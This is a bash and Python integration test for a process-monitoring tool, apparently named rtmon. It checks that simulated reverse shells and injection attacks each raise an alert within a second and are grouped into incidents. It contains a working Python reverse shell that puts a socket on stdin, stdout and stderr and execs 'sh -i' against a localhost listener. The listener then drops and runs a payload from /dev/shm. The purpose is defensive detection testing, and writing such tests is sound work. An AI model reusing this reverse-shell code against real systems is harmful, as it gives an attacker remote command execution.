#!/bin/bash
# incidents.sh: with the shipped configuration (folding and rate limits as users run them):
# 1. a burst of different attacks (every reverse shell variant and every injection variant of
#    scripts/simulate_*, run at the same time) gives each its own full alert, with the exact pid
#    of the process that did it, within 1 s of the kernel event; never only a count in a summary;
# 2. a reverse shell whose attacker runs 30 commands is 1 alert and incident updates with the same
#    incident_id whose timeline lists the 30 commands (exe, args, pid), closed once the shell exits;
#    the payload the attacker then drops in a temp dir and runs is a new finding of another rule: its
#    own full alert at once, with the shell's incident_id.
. "$(dirname "$0")/lib.sh"
require_root
export RTMON_SIM_PIDS=$T/pids
: > "$RTMON_SIM_PIDS"
rtmon_start --stdout -c "$top_srcdir/etc/rtmon/rtmon.conf"

# 1. the burst: both simulations at once, outside make's process tree (sim_detach.py)
echo "--- burst"
RTMON_SIM_TIMEOUT=90 python3 "$top_srcdir/scripts/sim_detach.py" bash "$top_srcdir/scripts/simulate_reverse_shell.sh" \
	> "$T/rs.log" 2>&1 &
S1=$!
RTMON_SIM_TIMEOUT=90 python3 "$top_srcdir/scripts/sim_detach.py" python3 "$top_srcdir/scripts/simulate_injection.py" \
	> "$T/inj.log" 2>&1 &
S2=$!
wait "$S1" || fail "simulate_reverse_shell.sh exited with $?"
wait "$S2" || fail "simulate_injection.py exited with $?"
sleep 1.5
python3 "$top_srcdir/tests/integration/sim_check.py" expect "$T/out" "$RTMON_SIM_PIDS" --latency 1.0 --span 20 ||
	fail "a variant of the burst has no full alert of its own within 1 s (above)"
n_rs=$(grep -c '^reverse_shell ' "$RTMON_SIM_PIDS" || true)
n_inj=$(grep -c '^injection_attempt ' "$RTMON_SIM_PIDS" || true)
[ "$n_rs" -ge 10 ] || fail "only $n_rs reverse shell variants ran (expected 10)"
[ "$n_inj" -ge 5 ] || fail "only $n_inj injection variants ran (expected at least 5)"

# 2. one reverse shell, 30 commands: python connects, puts the socket on 0/1/2 and becomes sh -i;
# the listener sends 30 commands, then exit
echo "--- 30 commands"
PAYDIR=$(mktemp -d /dev/shm/rtmon-inc.XXXXXX)
trap 'rm -rf "$PAYDIR"; cleanup_default' EXIT
python3 - "$T/cmds.port" "$PAYDIR" << 'PY' &
import os, socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write("%d\n" % s.getsockname()[1])
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
s.settimeout(20)
c, _ = s.accept()
c.sendall(b"".join(b"/bin/echo rtmon-cmd-%d\n" % i for i in range(1, 31)) +
          b"cp /bin/true " + sys.argv[2].encode() + b"/payload; " + sys.argv[2].encode() + b"/payload\nexit\n")
c.settimeout(10)
try:
    while c.recv(4096):
        pass
except OSError:
    pass
PY
LPID=$!
for _ in $(seq 100); do [ -s "$T/cmds.port" ] && break; sleep 0.05; done
PORT=$(cat "$T/cmds.port")
python3 "$top_srcdir/scripts/sim_detach.py" python3 -c "import os, socket, sys
s = socket.socket(); s.connect(('127.0.0.1', $PORT))
open('$T/shell.pid', 'w').write(str(os.getpid()))
for f in (0, 1, 2): os.dup2(s.fileno(), f)
os.execv('/bin/sh', ['sh', '-i'])" < /dev/null > /dev/null 2>&1 || true
wait "$LPID" || true
SHPID=$(cat "$T/shell.pid")
# the final update comes when the shell's tree has exited (at most one update per 5 s before it)
for _ in $(seq 100); do
	grep -q "\"kind\":\"incident\".*\"state\":\"closed\".*\"root_pid\":$SHPID," "$T/out" && break
	sleep 0.1
done
rtmon_stop
python3 - "$T/out" "$SHPID" "$PAYDIR" << 'PY' || fail "the 30-command reverse shell is not one alert plus its incident (above)"
import json, sys
out, pid, paydir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
lines = [json.loads(l) for l in open(out) if l.startswith("{")]
alerts = [o for o in lines if o["kind"] == "alert" and (o.get("event") or {}).get("pid") == pid]
assert len(alerts) == 1, ("alerts for the shell's pid", [a["reason"] for a in alerts])
alert = alerts[0]
assert alert["rule_id"] == "reverse_shell", alert["rule_id"]
inc_id = alert["incident_id"]
assert inc_id == alert["id"], "the first alert names the incident"
# the only other alert in the incident is the payload's, a finding of another rule
same = [o for o in lines if o["kind"] == "alert" and o.get("incident_id") == inc_id]
assert len(same) == 2, ("alerts in the incident", [a["reason"] for a in same])
pay = same[1]
assert pay["rule_id"] == "suspicious_exec" and pay["event"]["exe"] == paydir + "/payload", pay["reason"]
assert pay["event"]["ppid"] == pid, (pay["event"]["ppid"], pid)
assert pay["lineage"][0]["pid"] == pid
# and no alert at all names one of the shell's commands
assert not [o for o in lines if o["kind"] == "alert" and "rtmon-cmd" in json.dumps(o.get("event", {}))]
updates = [o for o in lines if o["kind"] == "incident" and o["incident_id"] == inc_id]
assert updates, "no incident update"
last = updates[-1]["incident"]
assert last["state"] == "closed" and last["close_reason"] == "exited", last["state"]
assert last["root_pid"] == pid, last["root_pid"]
cmds = [e for e in last["timeline"] if e["type"] == "exec" and e["exe"] == "/usr/bin/echo"]
want = ["rtmon-cmd-%d" % i for i in range(1, 31)]
assert [e["args"][1] for e in cmds] == want, [e.get("args") for e in cmds]
assert all(e["ppid"] == pid and e["pid"] != pid for e in cmds), "each command is a child of the shell"
assert len({e["pid"] for e in cmds}) == 30
assert last["counts"]["execs"] >= 31 and last["counts"]["processes"] >= 31, last["counts"]
assert last["counts"]["alerts"] == 2, last["counts"]
assert last["rules"] == ["reverse_shell", "suspicious_exec"], last["rules"]
assert [e for e in last["timeline"] if e.get("alert_id") == pay["id"] and e["pid"] == pay["event"]["pid"]]
assert all(u["rule_id"] == "reverse_shell" and u["severity"] == "critical" for u in updates)
print("ok: 1 reverse_shell alert (%s), the payload's suspicious_exec alert (%s) in the same incident, %d update(s), "
      "timeline of %d entries with the 30 commands, closed: %s"
      % (alert["id"], pay["id"], len(updates), len(last["timeline"]), updates[-1]["reason"]))
PY
echo PASS
